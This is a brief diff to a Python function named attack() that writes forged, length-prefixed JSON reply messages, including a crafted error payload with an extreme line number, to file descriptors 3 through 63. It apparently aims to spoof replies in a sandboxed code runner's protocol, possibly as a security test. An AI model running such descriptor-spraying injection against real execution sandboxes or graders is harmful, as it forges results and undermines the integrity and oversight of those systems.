@@ -71,8 +71,7 @@ def attack():
              "where": [["a.py", -10**4200, "f", "x"]]}
     for request in range(1, 30):
         for step in range(3):
-            reply = {"id": request, "step": step, "printed": "", "error": error, "arrays": 0}
-            text = json.dumps({"replies": [reply], "arrays": []}).encode()
+            text = json.dumps({"id": request, "step": step, "printed": "", "error": error, "arrays": []}).encode()
             for number in range(3, 64):
                 try:
                     os.write(number, struct.pack("<I", len(text)) + text)
